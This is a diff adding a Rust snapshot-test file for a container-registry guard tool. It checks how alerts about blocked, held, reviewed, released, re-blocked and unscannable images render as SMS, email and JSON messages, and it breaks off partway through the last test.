@@ -1,0 +1,1563 @@
+use proptest::prelude::*;
+use serde_json::{Value, json};
+
+use super::*;
+use crate::ids::RepositoryName;
+
+const DIGEST: &str = "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
+
+/// Through JSON, as it comes out of the ledger.
+fn finding(overrides: &Value) -> RecordedFinding {
+    let mut finding = json!({
+        "id": "CVE-2026-1234",
+        "severity": "CRITICAL",
+        "package": "openssl",
+        "installed": "3.0.1",
+        "fixed_in": "3.0.9",
+        "fix": "available",
+        "exploit": true,
+        "url": "https://nvd.nist.gov/vuln/detail/CVE-2026-1234",
+        "action": "block",
+        "rule": "severities.CRITICAL",
+        "first_seen": "2026-11-23T20:58:12.345Z",
+    });
+    for (name, value) in overrides.as_object().unwrap() {
+        finding[name] = value.clone();
+    }
+    serde_json::from_value(finding).unwrap()
+}
+
+fn findings() -> Vec<RecordedFinding> {
+    vec![
+        finding(&json!({})),
+        finding(&json!({
+            "id": "CVE-2025-40001", "package": "libxml2", "installed": "2.9.14+dfsg-1.3~deb12u1", "fixed_in": null, "fix": "unavailable",
+            "exploit": false, "package_type": "OS", "score": 9.1, "url": "https://security-tracker.debian.org/tracker/CVE-2025-40001", "first_seen": "2026-09-02T07:00:00Z",
+        })),
+        finding(&json!({
+            "id": "GHSA-jfh8-c2jp-5v3q", "package": "org.apache.logging.log4j:log4j-core", "installed": "2.14.1", "fixed_in": "2.15.0",
+            "exploit": true, "package_type": "JAR", "score": 10.0, "epss": 0.94358, "url": "https://blog.example.com/log4shell",
+        })),
+        finding(
+            &json!({"id": "CVE-2024-9", "package": null, "installed": null, "fixed_in": null, "fix": "unknown", "exploit": null, "url": null}),
+        ),
+    ]
+}
+
+fn alert(kind: AlertKind) -> Alert {
+    Alert {
+        id: "5d41402abc4b2a76b9719d911017c592".into(),
+        kind,
+        severity: Some(Severity::Critical),
+        time: "2026-11-23T21:00:00.987Z".parse().unwrap(),
+        image: ImageKey {
+            account: "123456789012".parse().unwrap(),
+            region: "us-west-2".parse().unwrap(),
+            repository: "pipeops-prod-api".parse().unwrap(),
+            digest: DIGEST.parse().unwrap(),
+        },
+        tags: vec!["v1.2.3".parse().unwrap(), "release_7".parse().unwrap()],
+        title: "pipeops-prod-api:v1.2.3 is blocked".into(),
+        reason: "4 findings block deployment, the worst is CVE-2026-1234 CRITICAL in openssl (policy: severities.CRITICAL).".into(),
+        findings: findings(),
+        omitted_findings: 0,
+        action: Some(AlertAction { method: BlockMethod::Archive, done: true }),
+        exceptions: Vec::new(),
+        next_steps: vec![
+            "Update to openssl 3.0.9, org.apache.logging.log4j:log4j-core 2.15.0 or newer, build, and push under a new tag.".into(),
+            "If it does no harm here, ask the owners of the policy for an exception for CVE-2026-1234 in pipeops-prod-api: with \
+             owner, reason and end."
+                .into(),
+            format!(
+                "See all findings: aws ecr describe-image-scan-findings --region us-west-2 --repository-name pipeops-prod-api \
+                 --image-id imageDigest={DIGEST}"
+            ),
+        ],
+    }
+}
+
+/// All forms, for people to read. The JSON documents are broken into lines without changing the order of members.
+fn show(alert: &Alert) -> String {
+    let Message {
+        subject,
+        default,
+        email,
+        https,
+        sms,
+    } = alert.message();
+    let lines = |json: &str| json.replace(",\"", ",\n\"");
+    format!(
+        "{subject}\n=== sms\n{sms}\n=== email\n{email}=== https\n{}\n=== default\n{}",
+        lines(&https).replace("\\n", "\\n\n"),
+        lines(&default)
+    )
+}
+
+#[test]
+fn a_blocked_image() {
+    insta::assert_snapshot!(show(&alert(AlertKind::ImageBlocked)), @r#"
+    [ecr-guard] BLOCKED pipeops-prod-api
+    === sms
+    ecr-guard BLOCKED: pipeops-prod-api:v1.2.3, CVE-2026-1234, archived
+    === email
+    pipeops-prod-api:v1.2.3 is blocked
+
+    IMAGE
+      Repository  pipeops-prod-api
+      Tags        v1.2.3, release_7
+      Digest      9f86d081884c
+                  sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
+      Account     123456789012
+      Region      us-west-2
+      Decided     2026-11-23 21:00:00 UTC
+
+    WHY
+      4 findings block deployment, the worst is CVE-2026-1234 CRITICAL in
+      openssl (policy: severities.CRITICAL).
+
+    WHAT WAS DONE
+      The image was moved to the archive. Pulls by tag and by digest answer "not
+      found" (404). Nothing that already runs is stopped; what has to pull the
+      image again, such as a new task, will not start. The image and its tags
+      are kept, and it can be restored.
+
+    FINDINGS THAT DECIDED, WORST FIRST
+      CVE-2026-1234  CRITICAL  exploit known
+        openssl 3.0.1, fixed in 3.0.9, first seen 2026-11-23
+        https://nvd.nist.gov/vuln/detail/CVE-2026-1234
+      CVE-2025-40001  CRITICAL  score 9.1
+        libxml2 2.9.14+dfsg-1.3~deb12u1, no fix yet, first seen 2026-09-02
+        https://security-tracker.debian.org/tracker/CVE-2025-40001
+      GHSA-jfh8-c2jp-5v3q  CRITICAL  exploit known, score 10.0, EPSS 0.94
+        org.apache.logging.log4j:log4j-core 2.14.1, fixed in 2.15.0, first seen 2026-11-23
+      CVE-2024-9  CRITICAL
+        package not named, fix not known, first seen 2026-11-23
+
+    NEXT STEPS
+      1. Update to openssl 3.0.9, org.apache.logging.log4j:log4j-core 2.15.0 or
+         newer, build, and push under a new tag.
+      2. If it does no harm here, ask the owners of the policy for an exception
+         for CVE-2026-1234 in pipeops-prod-api: with owner, reason and end.
+      3. See all findings:
+         aws ecr describe-image-scan-findings --region us-west-2 --repository-name pipeops-prod-api --image-id imageDigest=sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
+
+    Alert 5d41402abc4b2a76b9719d911017c592
+    If this arrives again with the same id, it is the same alert.
+    === https
+    {"version":"1.0",
+    "source":"custom",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "content":{"textType":"client-markdown",
+    "title":"pipeops-prod-api:v1.2.3 is blocked",
+    "description":"4 findings block deployment, the worst is CVE-2026-1234 CRITICAL in openssl (policy: `severities.CRITICAL`).\n
+    \n
+    *What was done:* The image was moved to the archive. Pulls by tag and by digest answer \"not found\" (404). Nothing that already runs is stopped; what has to pull the image again, such as a new task, will not start. The image and its tags are kept, and it can be restored.\n
+    *Image:* `pipeops-prod-api`, tags `v1.2.3`, `release_7`\n
+    *Digest:* `sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08`\n
+    *Account:* 123456789012, region us-west-2\n
+    \n
+    • `CVE-2026-1234` CRITICAL in `openssl` `3.0.1`, fixed in `3.0.9`, exploit known, first seen 2026-11-23 https://nvd.nist.gov/vuln/detail/CVE-2026-1234\n
+    • `CVE-2025-40001` CRITICAL in `libxml2` `2.9.14+dfsg-1.3~deb12u1`, no fix yet, first seen 2026-09-02 https://security-tracker.debian.org/tracker/CVE-2025-40001\n
+    • `GHSA-jfh8-c2jp-5v3q` CRITICAL in `org.apache.logging.log4j:log4j-core` `2.14.1`, fixed in `2.15.0`, exploit known, first seen 2026-11-23\n
+    • `CVE-2024-9` CRITICAL, fix not known, first seen 2026-11-23",
+    "nextSteps":["Update to openssl 3.0.9, `org.apache.logging.log4j:log4j-core` 2.15.0 or newer, build, and push under a new tag.",
+    "If it does no harm here, ask the owners of the policy for an exception for CVE-2026-1234 in pipeops-prod-api: with owner, reason and end.",
+    "See all findings: aws ecr describe-image-scan-findings --region us-west-2 --repository-name pipeops-prod-api --image-id imageDigest=sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"],
+    "keywords":["image-blocked",
+    "pipeops-prod-api",
+    "CRITICAL"]},
+    "metadata":{"threadId":"123456789012/us-west-2/pipeops-prod-api/9f86d081884c",
+    "summary":"pipeops-prod-api:v1.2.3 is blocked",
+    "eventType":"image-blocked",
+    "relatedResources":["arn:aws:ecr:us-west-2:123456789012:repository/pipeops-prod-api"],
+    "additionalContext":{"account":"123456789012",
+    "alertId":"5d41402abc4b2a76b9719d911017c592",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api"}}}
+    === default
+    {"schema":"ecr-guard/alert/v1",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "kind":"image-blocked",
+    "severity":"CRITICAL",
+    "time":"2026-11-23T21:00:00Z",
+    "account":"123456789012",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "tags":["v1.2.3",
+    "release_7"],
+    "title":"pipeops-prod-api:v1.2.3 is blocked",
+    "reason":"4 findings block deployment, the worst is CVE-2026-1234 CRITICAL in openssl (policy: severities.CRITICAL).",
+    "findings":[{"id":"CVE-2026-1234",
+    "severity":"CRITICAL",
+    "package":"openssl",
+    "package_type":null,
+    "installed":"3.0.1",
+    "fixed_in":"3.0.9",
+    "url":"https://nvd.nist.gov/vuln/detail/CVE-2026-1234",
+    "first_seen":"2026-11-23T20:58:12Z",
+    "rule":"severities.CRITICAL",
+    "exploit":true,
+    "score":null,
+    "epss":null},{"id":"CVE-2025-40001",
+    "severity":"CRITICAL",
+    "package":"libxml2",
+    "package_type":"OS",
+    "installed":"2.9.14+dfsg-1.3~deb12u1",
+    "fixed_in":null,
+    "url":"https://security-tracker.debian.org/tracker/CVE-2025-40001",
+    "first_seen":"2026-09-02T07:00:00Z",
+    "rule":"severities.CRITICAL",
+    "exploit":false,
+    "score":9.1,
+    "epss":null},{"id":"GHSA-jfh8-c2jp-5v3q",
+    "severity":"CRITICAL",
+    "package":"org.apache.logging.log4j:log4j-core",
+    "package_type":"JAR",
+    "installed":"2.14.1",
+    "fixed_in":"2.15.0",
+    "url":null,
+    "first_seen":"2026-11-23T20:58:12Z",
+    "rule":"severities.CRITICAL",
+    "exploit":true,
+    "score":10.0,
+    "epss":0.94358},{"id":"CVE-2024-9",
+    "severity":"CRITICAL",
+    "package":null,
+    "package_type":null,
+    "installed":null,
+    "fixed_in":null,
+    "url":null,
+    "first_seen":"2026-11-23T20:58:12Z",
+    "rule":"severities.CRITICAL",
+    "exploit":null,
+    "score":null,
+    "epss":null}],
+    "omitted_findings":0,
+    "action":{"method":"archive",
+    "done":true},
+    "next_steps":["Update to openssl 3.0.9, org.apache.logging.log4j:log4j-core 2.15.0 or newer, build, and push under a new tag.",
+    "If it does no harm here, ask the owners of the policy for an exception for CVE-2026-1234 in pipeops-prod-api: with owner, reason and end.",
+    "See all findings: aws ecr describe-image-scan-findings --region us-west-2 --repository-name pipeops-prod-api --image-id imageDigest=sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"]}
+    "#);
+}
+
+#[test]
+fn a_held_image() {
+    let alert = Alert {
+        title: "pipeops-prod-api:v1.2.3 should be blocked, and is not".into(),
+        reason: "1 finding blocks deployment: CVE-2026-1234 CRITICAL in openssl (policy: severities.CRITICAL). It is not blocked: it \
+                 is in use: it was last pulled on 2026-11-22."
+            .into(),
+        findings: vec![finding(&json!({}))],
+        action: Some(AlertAction { method: BlockMethod::Archive, done: false }),
+        next_steps: vec!["Deploy the new image, so that this one is no longer used: then it is blocked.".into()],
+        ..alert(AlertKind::ImageHeld)
+    };
+    insta::assert_snapshot!(show(&alert), @r#"
+    [ecr-guard] NOT BLOCKED pipeops-prod-api
+    === sms
+    ecr-guard NOT BLOCKED: pipeops-prod-api:v1.2.3, CVE-2026-1234, NOT archived
+    === email
+    pipeops-prod-api:v1.2.3 should be blocked, and is not
+
+    IMAGE
+      Repository  pipeops-prod-api
+      Tags        v1.2.3, release_7
+      Digest      9f86d081884c
+                  sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
+      Account     123456789012
+      Region      us-west-2
+      Decided     2026-11-23 21:00:00 UTC
+
+    WHY
+      1 finding blocks deployment: CVE-2026-1234 CRITICAL in openssl (policy:
+      severities.CRITICAL). It is not blocked: it is in use: it was last pulled
+      on 2026-11-22.
+
+    WHAT WAS DONE
+      NOT DONE: the image was not moved to the archive. It can still be pulled
+      and deployed.
+
+    FINDINGS THAT DECIDED, WORST FIRST
+      CVE-2026-1234  CRITICAL  exploit known
+        openssl 3.0.1, fixed in 3.0.9, first seen 2026-11-23
+        https://nvd.nist.gov/vuln/detail/CVE-2026-1234
+
+    NEXT STEPS
+      1. Deploy the new image, so that this one is no longer used: then it is
+         blocked.
+
+    Alert 5d41402abc4b2a76b9719d911017c592
+    If this arrives again with the same id, it is the same alert.
+    === https
+    {"version":"1.0",
+    "source":"custom",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "content":{"textType":"client-markdown",
+    "title":"pipeops-prod-api:v1.2.3 should be blocked, and is not",
+    "description":"1 finding blocks deployment: CVE-2026-1234 CRITICAL in openssl (policy: `severities.CRITICAL`). It is not blocked: it is in use: it was last pulled on 2026-11-22.\n
+    \n
+    *What was done:* NOT DONE: the image was not moved to the archive. It can still be pulled and deployed.\n
+    *Image:* `pipeops-prod-api`, tags `v1.2.3`, `release_7`\n
+    *Digest:* `sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08`\n
+    *Account:* 123456789012, region us-west-2\n
+    \n
+    • `CVE-2026-1234` CRITICAL in `openssl` `3.0.1`, fixed in `3.0.9`, exploit known, first seen 2026-11-23 https://nvd.nist.gov/vuln/detail/CVE-2026-1234",
+    "nextSteps":["Deploy the new image, so that this one is no longer used: then it is blocked."],
+    "keywords":["image-held",
+    "pipeops-prod-api",
+    "CRITICAL"]},
+    "metadata":{"threadId":"123456789012/us-west-2/pipeops-prod-api/9f86d081884c",
+    "summary":"pipeops-prod-api:v1.2.3 should be blocked, and is not",
+    "eventType":"image-held",
+    "relatedResources":["arn:aws:ecr:us-west-2:123456789012:repository/pipeops-prod-api"],
+    "additionalContext":{"account":"123456789012",
+    "alertId":"5d41402abc4b2a76b9719d911017c592",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api"}}}
+    === default
+    {"schema":"ecr-guard/alert/v1",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "kind":"image-held",
+    "severity":"CRITICAL",
+    "time":"2026-11-23T21:00:00Z",
+    "account":"123456789012",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "tags":["v1.2.3",
+    "release_7"],
+    "title":"pipeops-prod-api:v1.2.3 should be blocked, and is not",
+    "reason":"1 finding blocks deployment: CVE-2026-1234 CRITICAL in openssl (policy: severities.CRITICAL). It is not blocked: it is in use: it was last pulled on 2026-11-22.",
+    "findings":[{"id":"CVE-2026-1234",
+    "severity":"CRITICAL",
+    "package":"openssl",
+    "package_type":null,
+    "installed":"3.0.1",
+    "fixed_in":"3.0.9",
+    "url":"https://nvd.nist.gov/vuln/detail/CVE-2026-1234",
+    "first_seen":"2026-11-23T20:58:12Z",
+    "rule":"severities.CRITICAL",
+    "exploit":true,
+    "score":null,
+    "epss":null}],
+    "omitted_findings":0,
+    "action":{"method":"archive",
+    "done":false},
+    "next_steps":["Deploy the new image, so that this one is no longer used: then it is blocked."]}
+    "#);
+}
+
+#[test]
+fn an_image_to_review() {
+    let alert = Alert {
+        severity: Some(Severity::High),
+        title: "pipeops-prod-api:v1.2.3 needs review before deployment".into(),
+        reason: "1 finding needs review before deployment: CVE-2026-77 HIGH in curl (policy: severities.HIGH).".into(),
+        findings: vec![finding(&json!({
+            "id": "CVE-2026-77", "severity": "HIGH", "package": "curl", "installed": "8.5.0-2ubuntu10.1", "fixed_in": "8.5.0-2ubuntu10.6",
+            "exploit": false, "url": "https://ubuntu.com/security/CVE-2026-77", "rule": "severities.HIGH",
+        }))],
+        action: None,
+        next_steps: vec!["Look at the findings before this image is deployed.".into()],
+        ..alert(AlertKind::ImageReview)
+    };
+    insta::assert_snapshot!(show(&alert), @r#"
+    [ecr-guard] REVIEW pipeops-prod-api
+    === sms
+    ecr-guard REVIEW: pipeops-prod-api:v1.2.3, CVE-2026-77, nothing changed
+    === email
+    pipeops-prod-api:v1.2.3 needs review before deployment
+
+    IMAGE
+      Repository  pipeops-prod-api
+      Tags        v1.2.3, release_7
+      Digest      9f86d081884c
+                  sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
+      Account     123456789012
+      Region      us-west-2
+      Decided     2026-11-23 21:00:00 UTC
+
+    WHY
+      1 finding needs review before deployment: CVE-2026-77 HIGH in curl
+      (policy: severities.HIGH).
+
+    WHAT WAS DONE
+      Nothing was changed in the registry.
+
+    FINDINGS THAT DECIDED, WORST FIRST
+      CVE-2026-77  HIGH
+        curl 8.5.0-2ubuntu10.1, fixed in 8.5.0-2ubuntu10.6, first seen 2026-11-23
+        https://ubuntu.com/security/CVE-2026-77
+
+    NEXT STEPS
+      1. Look at the findings before this image is deployed.
+
+    Alert 5d41402abc4b2a76b9719d911017c592
+    If this arrives again with the same id, it is the same alert.
+    === https
+    {"version":"1.0",
+    "source":"custom",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "content":{"textType":"client-markdown",
+    "title":"pipeops-prod-api:v1.2.3 needs review before deployment",
+    "description":"1 finding needs review before deployment: CVE-2026-77 HIGH in curl (policy: `severities.HIGH`).\n
+    \n
+    *What was done:* Nothing was changed in the registry.\n
+    *Image:* `pipeops-prod-api`, tags `v1.2.3`, `release_7`\n
+    *Digest:* `sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08`\n
+    *Account:* 123456789012, region us-west-2\n
+    \n
+    • `CVE-2026-77` HIGH in `curl` `8.5.0-2ubuntu10.1`, fixed in `8.5.0-2ubuntu10.6`, first seen 2026-11-23 https://ubuntu.com/security/CVE-2026-77",
+    "nextSteps":["Look at the findings before this image is deployed."],
+    "keywords":["image-review",
+    "pipeops-prod-api",
+    "HIGH"]},
+    "metadata":{"threadId":"123456789012/us-west-2/pipeops-prod-api/9f86d081884c",
+    "summary":"pipeops-prod-api:v1.2.3 needs review before deployment",
+    "eventType":"image-review",
+    "relatedResources":["arn:aws:ecr:us-west-2:123456789012:repository/pipeops-prod-api"],
+    "additionalContext":{"account":"123456789012",
+    "alertId":"5d41402abc4b2a76b9719d911017c592",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api"}}}
+    === default
+    {"schema":"ecr-guard/alert/v1",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "kind":"image-review",
+    "severity":"HIGH",
+    "time":"2026-11-23T21:00:00Z",
+    "account":"123456789012",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "tags":["v1.2.3",
+    "release_7"],
+    "title":"pipeops-prod-api:v1.2.3 needs review before deployment",
+    "reason":"1 finding needs review before deployment: CVE-2026-77 HIGH in curl (policy: severities.HIGH).",
+    "findings":[{"id":"CVE-2026-77",
+    "severity":"HIGH",
+    "package":"curl",
+    "package_type":null,
+    "installed":"8.5.0-2ubuntu10.1",
+    "fixed_in":"8.5.0-2ubuntu10.6",
+    "url":"https://ubuntu.com/security/CVE-2026-77",
+    "first_seen":"2026-11-23T20:58:12Z",
+    "rule":"severities.HIGH",
+    "exploit":false,
+    "score":null,
+    "epss":null}],
+    "omitted_findings":0,
+    "action":null,
+    "next_steps":["Look at the findings before this image is deployed."]}
+    "#);
+}
+
+#[test]
+fn a_released_image() {
+    let alert = Alert {
+        severity: None,
+        title: "pipeops-prod-api:v1.2.3 is released".into(),
+        reason: "What blocked it no longer does. Findings: 2 MEDIUM. None needs review, 1 is excepted by the policy."
+            .into(),
+        findings: vec![],
+        action: Some(AlertAction {
+            method: BlockMethod::Archive,
+            done: false,
+        }),
+        next_steps: vec![
+            "Wait until it can be pulled: a restore takes up to about 20 minutes.".into(),
+            "Deploy it again where it was missing.".into(),
+        ],
+        ..alert(AlertKind::ImageReleased)
+    };
+    insta::assert_snapshot!(show(&alert), @r#"
+    [ecr-guard] RELEASED pipeops-prod-api
+    === sms
+    ecr-guard RELEASED: pipeops-prod-api:v1.2.3, restored
+    === email
+    pipeops-prod-api:v1.2.3 is released
+
+    IMAGE
+      Repository  pipeops-prod-api
+      Tags        v1.2.3, release_7
+      Digest      9f86d081884c
+                  sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
+      Account     123456789012
+      Region      us-west-2
+      Decided     2026-11-23 21:00:00 UTC
+
+    WHY
+      What blocked it no longer does. Findings: 2 MEDIUM. None needs review, 1
+      is excepted by the policy.
+
+    WHAT WAS DONE
+      The image was taken out of the archive. Pulls by tag and by digest work
+      again.
+
+    NEXT STEPS
+      1. Wait until it can be pulled: a restore takes up to about 20 minutes.
+      2. Deploy it again where it was missing.
+
+    Alert 5d41402abc4b2a76b9719d911017c592
+    If this arrives again with the same id, it is the same alert.
+    === https
+    {"version":"1.0",
+    "source":"custom",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "content":{"textType":"client-markdown",
+    "title":"pipeops-prod-api:v1.2.3 is released",
+    "description":"What blocked it no longer does. Findings: 2 MEDIUM. None needs review, 1 is excepted by the policy.\n
+    \n
+    *What was done:* The image was taken out of the archive. Pulls by tag and by digest work again.\n
+    *Image:* `pipeops-prod-api`, tags `v1.2.3`, `release_7`\n
+    *Digest:* `sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08`\n
+    *Account:* 123456789012, region us-west-2",
+    "nextSteps":["Wait until it can be pulled: a restore takes up to about 20 minutes.",
+    "Deploy it again where it was missing."],
+    "keywords":["image-released",
+    "pipeops-prod-api"]},
+    "metadata":{"threadId":"123456789012/us-west-2/pipeops-prod-api/9f86d081884c",
+    "summary":"pipeops-prod-api:v1.2.3 is released",
+    "eventType":"image-released",
+    "relatedResources":["arn:aws:ecr:us-west-2:123456789012:repository/pipeops-prod-api"],
+    "additionalContext":{"account":"123456789012",
+    "alertId":"5d41402abc4b2a76b9719d911017c592",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api"}}}
+    === default
+    {"schema":"ecr-guard/alert/v1",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "kind":"image-released",
+    "severity":null,
+    "time":"2026-11-23T21:00:00Z",
+    "account":"123456789012",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "tags":["v1.2.3",
+    "release_7"],
+    "title":"pipeops-prod-api:v1.2.3 is released",
+    "reason":"What blocked it no longer does. Findings: 2 MEDIUM. None needs review, 1 is excepted by the policy.",
+    "findings":[],
+    "omitted_findings":0,
+    "action":{"method":"archive",
+    "done":false},
+    "next_steps":["Wait until it can be pulled: a restore takes up to about 20 minutes.",
+    "Deploy it again where it was missing."]}
+    "#);
+}
+
+#[test]
+fn an_image_that_came_back() {
+    let alert = Alert {
+        title: "pipeops-prod-api:v1.2.3 was blocked, came back, and is blocked again".into(),
+        reason: "It got new tags. 1 finding blocks deployment: CVE-2026-1234 CRITICAL in openssl (policy: severities.CRITICAL).".into(),
+        findings: vec![finding(&json!({}))],
+        omitted_findings: 12,
+        action: Some(AlertAction { method: BlockMethod::QuarantineTag, done: true }),
+        next_steps: vec!["Do not push the same image again: it would only be blocked again.".into()],
+        ..alert(AlertKind::ImageBypass)
+    };
+    insta::assert_snapshot!(show(&alert), @r#"
+    [ecr-guard] BLOCKED AGAIN pipeops-prod-api
+    === sms
+    ecr-guard BLOCKED AGAIN: pipeops-prod-api:v1.2.3, CVE-2026-1234, quarantined
+    === email
+    pipeops-prod-api:v1.2.3 was blocked, came back, and is blocked again
+
+    IMAGE
+      Repository  pipeops-prod-api
+      Tags        v1.2.3, release_7
+      Digest      9f86d081884c
+                  sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
+      Account     123456789012
+      Region      us-west-2
+      Decided     2026-11-23 21:00:00 UTC
+
+    WHY
+      It got new tags. 1 finding blocks deployment: CVE-2026-1234 CRITICAL in
+      openssl (policy: severities.CRITICAL).
+
+    WHAT WAS DONE
+      The image lost its tags and got one that begins with "blocked-". Pulls by
+      tag fail; pulls by digest still work. Nothing that already runs is
+      stopped. The image is kept, and its tags can be restored.
+
+    FINDINGS THAT DECIDED, WORST FIRST
+      CVE-2026-1234  CRITICAL  exploit known
+        openssl 3.0.1, fixed in 3.0.9, first seen 2026-11-23
+        https://nvd.nist.gov/vuln/detail/CVE-2026-1234
+      and 12 more
+
+    NEXT STEPS
+      1. Do not push the same image again: it would only be blocked again.
+
+    Alert 5d41402abc4b2a76b9719d911017c592
+    If this arrives again with the same id, it is the same alert.
+    === https
+    {"version":"1.0",
+    "source":"custom",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "content":{"textType":"client-markdown",
+    "title":"pipeops-prod-api:v1.2.3 was blocked, came back, and is blocked again",
+    "description":"It got new tags. 1 finding blocks deployment: CVE-2026-1234 CRITICAL in openssl (policy: `severities.CRITICAL`).\n
+    \n
+    *What was done:* The image lost its tags and got one that begins with \"blocked-\". Pulls by tag fail; pulls by digest still work. Nothing that already runs is stopped. The image is kept, and its tags can be restored.\n
+    *Image:* `pipeops-prod-api`, tags `v1.2.3`, `release_7`\n
+    *Digest:* `sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08`\n
+    *Account:* 123456789012, region us-west-2\n
+    \n
+    • `CVE-2026-1234` CRITICAL in `openssl` `3.0.1`, fixed in `3.0.9`, exploit known, first seen 2026-11-23 https://nvd.nist.gov/vuln/detail/CVE-2026-1234\n
+    and 12 more",
+    "nextSteps":["Do not push the same image again: it would only be blocked again."],
+    "keywords":["image-bypass",
+    "pipeops-prod-api",
+    "CRITICAL"]},
+    "metadata":{"threadId":"123456789012/us-west-2/pipeops-prod-api/9f86d081884c",
+    "summary":"pipeops-prod-api:v1.2.3 was blocked, came back, and is blocked again",
+    "eventType":"image-bypass",
+    "relatedResources":["arn:aws:ecr:us-west-2:123456789012:repository/pipeops-prod-api"],
+    "additionalContext":{"account":"123456789012",
+    "alertId":"5d41402abc4b2a76b9719d911017c592",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api"}}}
+    === default
+    {"schema":"ecr-guard/alert/v1",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "kind":"image-bypass",
+    "severity":"CRITICAL",
+    "time":"2026-11-23T21:00:00Z",
+    "account":"123456789012",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "tags":["v1.2.3",
+    "release_7"],
+    "title":"pipeops-prod-api:v1.2.3 was blocked, came back, and is blocked again",
+    "reason":"It got new tags. 1 finding blocks deployment: CVE-2026-1234 CRITICAL in openssl (policy: severities.CRITICAL).",
+    "findings":[{"id":"CVE-2026-1234",
+    "severity":"CRITICAL",
+    "package":"openssl",
+    "package_type":null,
+    "installed":"3.0.1",
+    "fixed_in":"3.0.9",
+    "url":"https://nvd.nist.gov/vuln/detail/CVE-2026-1234",
+    "first_seen":"2026-11-23T20:58:12Z",
+    "rule":"severities.CRITICAL",
+    "exploit":true,
+    "score":null,
+    "epss":null}],
+    "omitted_findings":12,
+    "action":{"method":"quarantine-tag",
+    "done":true},
+    "next_steps":["Do not push the same image again: it would only be blocked again."]}
+    "#);
+}
+
+#[test]
+fn an_image_that_could_not_be_scanned() {
+    let alert = Alert {
+        severity: None,
+        title: "pipeops-prod-api@9f86d081884c could not be scanned".into(),
+        reason: "The scanner does not support this kind of image, so nothing is known about it.".into(),
+        tags: vec![],
+        findings: vec![],
+        action: None,
+        next_steps: vec!["Push it again, or rebuild it on a base image that the scanner supports.".into()],
+        ..alert(AlertKind::ScanFailed)
+    };
+    insta::assert_snapshot!(show(&alert), @r#"
+    [ecr-guard] NOT SCANNED pipeops-prod-api
+    === sms
+    ecr-guard NOT SCANNED: pipeops-prod-api@9f86d081884c, nothing changed
+    === email
+    pipeops-prod-api@9f86d081884c could not be scanned
+
+    IMAGE
+      Repository  pipeops-prod-api
+      Tags        none
+      Digest      9f86d081884c
+                  sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
+      Account     123456789012
+      Region      us-west-2
+      Decided     2026-11-23 21:00:00 UTC
+
+    WHY
+      The scanner does not support this kind of image, so nothing is known about
+      it.
+
+    WHAT WAS DONE
+      Nothing was changed in the registry.
+
+    NEXT STEPS
+      1. Push it again, or rebuild it on a base image that the scanner supports.
+
+    Alert 5d41402abc4b2a76b9719d911017c592
+    If this arrives again with the same id, it is the same alert.
+    === https
+    {"version":"1.0",
+    "source":"custom",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "content":{"textType":"client-markdown",
